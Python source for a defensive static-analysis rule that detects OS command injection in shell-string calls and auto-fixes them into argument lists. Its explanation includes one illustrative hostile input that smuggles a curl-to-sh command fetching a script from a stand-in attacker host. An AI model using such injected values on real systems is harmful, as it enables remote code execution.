"""PY-CMDI-001 os-command-injection-shell-string: a command line built from values and run by a shell.

**What it finds.** `os.system()`, `os.popen()`, `subprocess.getoutput()` /
`getstatusoutput()`, `asyncio.create_subprocess_shell()`, and
`subprocess.run/call/check_call/check_output/Popen(..., shell=True)` (also
`["sh", "-c", cmd]`) whose command string is built with an f-string, `%`, `+`,
`.format()` or `.join()` from a value that is not constant, inline or in a
variable; and a command that is request or command-line input as a whole
(`os.system(request.args["cmd"])`). The shell string is the flaw in itself,
so taint is not required: it only sets the rating. Request data reaching the
command is critical with high confidence, `sys.argv`/`input()` high/high, a
value of unknown origin (a helper's parameter) high/medium.

**Not reported.** Constant commands, holes that are numbers, module
constants, `shlex.quote()`d values, request values validated by an allow-list
or a tight regular expression, and argument lists without a shell
(`subprocess.run(["ping", "-c", "1", host])`).

**Fix.** "Use an argument list without a shell" rebuilds the command as a
list: the literal text is split the way `/bin/sh` splits words (quotes
removed) and every value becomes one argument of its own (or is spliced into
its word as an f-string). `os.system(cmd)` becomes `subprocess.run([...])`
(`.returncode` where the status is tested), `os.popen(cmd).read()` becomes
`subprocess.run([...], stdout=subprocess.PIPE, text=True).stdout`, and
`shell=True` is dropped from `subprocess` calls. For benign values the same
program runs with the same arguments; a hostile value stays one inert argument.
No fix is offered when the literal text uses shell features (pipes,
redirections, `;`, `$VAR`, globs, `~`): those need a reviewed rewrite.
"""

from __future__ import annotations

from typing import Iterator

from tree_sitter import Node

from ....common.names import last_parts
from ....context import AnalysisContext
from ....model import Confidence, Edit, Finding, Fix, Severity
from ....python.arguments import argument_value, keyword_argument, remove_argument
from ....python.argv import argv_sources
from ....python.dataflow import built_string_of, scope_of
from ....python.names import calls
from ....python.sequences import list_elements
from ....python.strings import BuiltString, Hole, literal_value, unwrap_parens
from ....python.taint import Taint, input_holes, sink_taint, taint_of
from ....python.taint_specs import LOCAL, REQUEST, SHELL
from ...base import Explanation, Rule, register

ALWAYS_SHELL = {
    "os.system": "system",
    "os.popen": "popen",
    "subprocess.getoutput": "getoutput",
    "subprocess.getstatusoutput": "getoutput",
    "commands.getoutput": "getoutput",
    "asyncio.create_subprocess_shell": "async_shell",
}
SUBPROCESS = frozenset({"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.Popen"})
SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "/bin/sh", "/bin/bash", "/usr/bin/bash", "/bin/zsh"})
_INPUT_KINDS = frozenset({REQUEST, LOCAL})


@register
class OsCommandInjection(Rule):
    id = "PY-CMDI-001"
    name = "os-command-injection-shell-string"
    cwe = 78
    owasp = "A03:2021"
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    languages = ("python",)
    fix_title = "Use an argument list without a shell"
    # every finding is at a call named in ALWAYS_SHELL or SUBPROCESS: the last
    # part of its name is in the unit (`shell`/`-c` are not: the argument list
    # may be built from a variable, the flag from escapes)
    triggers = tuple(sorted(last_parts(ALWAYS_SHELL, SUBPROCESS)))
    summary = "Shell command built from non-constant values (os.system, os.popen, subprocess with shell=True)"
    explanation = Explanation(
        what="A command line is assembled from values at run time and handed to `/bin/sh`, which parses it as shell code.",
        why=(
            "For ordinary values (a host name, a file name) the command does exactly what was intended, so it passes "
            "tests. But the shell cannot tell the value from the command: `;`, `|`, `&&`, `$(...)` or a newline in "
            "the value start commands of the attacker's choosing, with the service's privileges."
        ),
        hostile_input="`example.org; curl https://evil.example/x | sh` as the host of `os.system(f\"ping -c 1 {host}\")` downloads and runs a script.",
        fix=(
            "Pass an argument list and no shell: `subprocess.run([\"ping\", \"-c\", \"1\", host], check=True)`. "
            "Each value is then one argument whatever it contains. If a shell is unavoidable, quote every value "
            "with `shlex.quote()` and validate it against an allow-list."
        ),
    )

    def check(self, ctx: AnalysisContext) -> Iterator[Finding]:
        for call, name in calls(ctx):
            kind = ALWAYS_SHELL.get(name or "")
            command: Node | None = None
            if kind is not None:
                command = argument_value(ctx, call, "cmd", position=0) or argument_value(ctx, call, "command", position=0)
            elif name in SUBPROCESS:
                command, kind = self._subprocess_command(ctx, call)
            if command is None or kind is None:
                continue
            finding = self._check_command(ctx, call, name or "", kind, command)
            if finding is not None:
                yield finding

    @staticmethod
    def _subprocess_command(ctx: AnalysisContext, call: Node) -> tuple[Node | None, str | None]:
        args = argument_value(ctx, call, "args", position=0)
        shell = keyword_argument(ctx, call, "shell")
        if args is None:
            return None, None
        if shell is not None and ctx.text(shell.child_by_field_name("value")) == "True":
            return (args, "subprocess") if unwrap_parens(args).type not in ("list", "tuple") else (None, None)
        items = unwrap_parens(args)
        if items.type in ("list", "tuple") and len(items.named_children) >= 3:
            program, flag, script = items.named_children[:3]
            if literal_value(ctx, program) in SHELLS and literal_value(ctx, flag) == "-c":
                return script, "shell_c"
        if items.type == "identifier":
            script = _shell_script(ctx, list_elements(ctx, items) or [])
            if script is not None:
                return script, "shell_list"
        return None, None

    # -- detection ------------------------------------------------------------
    def _check_command(self, ctx: AnalysisContext, call: Node, name: str, kind: str, command: Node) -> Finding | None:
        command = unwrap_parens(command)
        built, definition = built_string_of(ctx, command)
        if built is not None:
            holes = input_holes(ctx, built, SHELL, kinds=_INPUT_KINDS)
            if not holes:
                return None
            taint = sink_taint(ctx, holes, SHELL, kinds=_INPUT_KINDS)
            fix = self._fix(ctx, call, kind, command, built, definition)
            where = f" (built on line {definition.node.start_point.row + 1})" if definition is not None else ""
            return self._report(ctx, call, name, taint, f"command string{where} built from {self._origin(taint)}", fix)
        taint = taint_of(ctx, command, sink=SHELL, kinds=_INPUT_KINDS)
        if taint is None:
            return None
        return self._report(ctx, call, name, taint, f"command taken as a whole from {self._origin(taint)}", None)

    @staticmethod
    def _origin(taint: Taint | None) -> str:
        return f"{taint.source} (line {taint.line})" if taint is not None else "non-constant values"

    def _report(self, ctx, call: Node, name: str, taint: Taint | None, what: str, fix: Fix | None) -> Finding:
        severity, confidence = self.severity, self.confidence
        if taint is not None:
            severity = Severity.CRITICAL if taint.kind == REQUEST else Severity.HIGH
            confidence = Confidence.HIGH
        short = name.rsplit(".", 1)[-1] if name else "shell"
        message = f"OS command injection: {short}() runs a shell on a {what}; pass an argument list without a shell"
        return self.finding(ctx, call, message, fixes=(fix,) if fix else (), severity=severity, confidence=confidence)

    # -- fix ------------------------------------------------------------------------
    def _fix(self, ctx, call: Node, kind: str, command: Node, built: BuiltString, definition) -> Fix | None:
        if kind in ("getoutput", "async_shell", "shell_c", "shell_list"):
            return None
        argv = argv_sources(ctx, built.segments, lambda hole: self._argument(ctx, hole))
        if argv is None:
            return None
        argv_text = "[" + ", ".join(argv) + "]"
        edits: list[Edit] = []
        if definition is not None:
            if not self._only_use(ctx, command, definition):
                return None
            edits.append(Edit(definition.value.start_byte, definition.value.end_byte, argv_text))
            argv_text = ctx.text(command)
        elif command.id != built.node.id:
            return None
        if kind == "subprocess":
            shell = keyword_argument(ctx, call, "shell")
            if keyword_argument(ctx, call, "executable") is not None:
                return None
            removal = remove_argument(ctx, call, shell)
            if removal is None:
                return None
            if definition is None:
                edits.append(Edit(command.start_byte, command.end_byte, argv_text))
            edits.append(removal)
            return Fix("Use an argument list without a shell", tuple(edits))
        replacement = self._replacement(ctx, call, kind, argv_text)
        if replacement is None:
            return None
        start, end, text = replacement
        edits.append(Edit(start, end, text))
        return Fix("Use subprocess.run with an argument list", tuple(edits), ("import subprocess",))

    @staticmethod
    def _argument(ctx: AnalysisContext, hole: Hole) -> str:
        """A hole as a list element: strings as they are, anything else via str()."""
        text = ctx.text(hole.node)
        taint = taint_of(ctx, hole.node)
        if taint is not None and "json" not in taint.source and taint.kind in _INPUT_KINDS:
            return text
        node = unwrap_parens(hole.node)
        if node.type == "call" and ctx.text(node.child_by_field_name("function")) in ("str", "shlex.quote"):
            return text
        return f"str({text})"

    @staticmethod
    def _replacement(ctx: AnalysisContext, call: Node, kind: str, argv_text: str) -> tuple[int, int, str] | None:
        parent = call.parent
        run = f"subprocess.run({argv_text})"
        if kind == "system":
            if parent is not None and parent.type == "expression_statement":
                return call.start_byte, call.end_byte, run
            if parent is not None and (
                parent.type in ("if_statement", "not_operator", "while_statement")
                or parent.type == "comparison_operator" and any(ctx.text(c) == "0" for c in parent.named_children)
            ):
                return call.start_byte, call.end_byte, f"{run}.returncode"
            return None
        if kind == "popen":
            if len(call.child_by_field_name("arguments").named_children) != 1:
                return None
            if parent is None or parent.type != "attribute" or ctx.text(parent.child_by_field_name("attribute")) != "read":
                return None
            read_call = parent.parent
            if read_call is None or read_call.type != "call" or read_call.child_by_field_name("arguments").named_children:
                return None
            return read_call.start_byte, read_call.end_byte, f"subprocess.run({argv_text}, stdout=subprocess.PIPE, text=True).stdout"
        return None

    @staticmethod
    def _only_use(ctx: AnalysisContext, use: Node, definition) -> bool:
        """The variable holding the command is read only by this call."""
        name = ctx.text(use)
        scope = scope_of(ctx, use)
        reads = [
            n for n in ctx.captures("(identifier) @id", scope).get("id", [])
            if ctx.text(n) == name and n.start_byte > definition.node.end_byte
        ]
        return len(reads) == 1 and reads[0].id == use.id


def _shell_script(ctx: AnalysisContext, elements: list[Node]) -> Node | None:
    """The script of an argument list built step by step that runs a shell
    with `-c` (`argv = ["sh", "-c"]; argv.append(cmd)`): the element after
    the last `-c` that follows a shell. Lists filled in branches hold every
    branch's elements (`cmd.exe`, `/c`, `sh`, `-c`, script)."""
    shell_seen = False
    script_at = None
    for index, element in enumerate(elements):
        value = literal_value(ctx, element)
        if value in SHELLS:
            shell_seen = True
        elif value == "-c" and shell_seen:
            script_at = index + 1
    if script_at is None or script_at >= len(elements):
        return None
    return elements[script_at]
